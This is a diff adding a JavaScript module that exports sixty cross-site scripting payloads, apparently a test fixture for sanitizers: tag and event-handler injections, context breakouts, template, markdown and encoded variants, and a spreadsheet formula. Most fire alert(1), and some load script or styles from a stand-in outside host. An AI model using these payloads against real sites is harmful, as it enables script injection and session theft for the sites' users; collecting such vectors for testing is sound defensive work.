@@ -1,0 +1,73 @@
+/** Texts that run as a script wherever they are taken for more than text: sixty ways. */
+const call = 'alert(1)'
+
+const tags = [
+  `<script>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script src=//elsewhere.example/x.js></script>`,
+  `<script/x>${call}</script>`,
+  `<<script>${call}//<</script>`,
+  `<img src=x onerror=${call}>`,
+  `<img/src=x/onerror=${call}>`,
+  `<IMG SRC="x" ONERROR="${call}">`,
+  `<img src=x onerror=&#97;lert(1)>`,
+  `<img src="x" onerror='${call}' style="display:none">`,
+  `<svg onload=${call}>`,
+  `<svg/onload=${call}>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>x</text></a></svg>`,
+  `<body onload=${call}>`,
+  `<iframe src="javascript:${call}"></iframe>`,
+  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="javascript:${call}">`,
+  `<video><source onerror=${call}></video>`,
+  `<audio src=x onerror=${call}>`,
+  `<details open ontoggle=${call}>x</details>`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<textarea autofocus onfocus=${call}>`,
+  `<marquee onstart=${call}>x</marquee>`,
+  `<a href="javascript:${call}">x</a>`,
+  `<a href="java&#x09;script:${call}">x</a>`,
+  `<form action="javascript:${call}"><button>x</button></form>`,
+  `<button onclick=${call} autofocus>x</button>`,
+  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
+  `<template><img src=x onerror=${call}></template>`,
+  `<base href="//elsewhere.example/">`,
+  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
+  `<style>@import '//elsewhere.example/x.css';</style>`,
+  `<style onload=${call}></style>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+]
+
+const breakouts = [
+  `"><script>${call}</script>`,
+  `'><script>${call}</script>`,
+  `</script><script>${call}</script>`,
+  `</title><script>${call}</script>`,
+  `</textarea><script>${call}</script>`,
+  `</style><img src=x onerror=${call}>`,
+  `--><img src=x onerror=${call}>`,
+  `]]><img src=x onerror=${call}>`,
+  `" onmouseover="${call}`,
+  `" autofocus onfocus="${call}" x="`,
+  `' onfocus='${call}' autofocus='`,
+  `';${call};'`,
+  `";${call};"`,
+]
+
+const templates = [
+  `javascript:${call}`,
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<%= alert(1) %>',
+  `[x](javascript:${call})`,
+  `![x](x"onerror="${call})`,
+  `&lt;img src=x onerror=${call}&gt;`,
+  `%3Cimg src=x onerror=${call}%3E`,
+  '=HYPERLINK("javascript:alert(1)","x")',
+]
+
+export const payloads = [...tags, ...breakouts, ...templates]
